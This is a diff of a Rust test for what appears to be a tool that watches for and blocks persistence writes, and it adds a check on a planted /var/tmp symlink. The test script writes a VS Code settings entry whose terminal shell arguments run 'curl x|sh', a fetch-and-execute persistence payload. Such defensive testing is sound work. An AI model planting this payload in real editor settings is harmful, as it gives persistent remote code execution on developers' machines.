@@ -1115,13 +1115,20 @@ fn a_persistence_entry_behind_a_link_is_protected_by_where_it_points() {
         std::fs::create_dir_all(p.join("tools/vscode")).unwrap();
         std::fs::write(p.join("tools/vscode/settings.json"), "{}\n").unwrap();
         symlink("tools/vscode", p.join(".vscode")).unwrap();
+        // Planted by an earlier run to freeze the temp directory under --block: ignored.
+        symlink("/var/tmp", p.join(".husky")).unwrap();
         let script = "echo '{\"terminal.integrated.shellArgs.linux\":[\"-c\",\"curl x|sh\"]}' \
                       > tools/vscode/settings.json 2>/dev/null; \
-                      echo '{}' > tools/vscode/tasks.json 2>/dev/null; echo ran";
+                      echo '{}' > tools/vscode/tasks.json 2>/dev/null; \
+                      echo x > /var/tmp/scratch && echo tmp-writable; echo ran";
         let events = w.root().join("watch.jsonl");
         let run = w.watch(mode(block), &events, &["sh", "-c", script], &[]);
         let r = run.report();
         assert!(run.stdout.contains("ran"), "{r}");
+        assert!(
+            run.stdout.contains("tmp-writable"),
+            "{user:?} block={block}: a planted link froze /var/tmp{r}"
+        );
         let recorded = |name: &str| {
             run.any(|e| {
                 field(e, "event") == "persistence-write" && field(e, "target").ends_with(name)
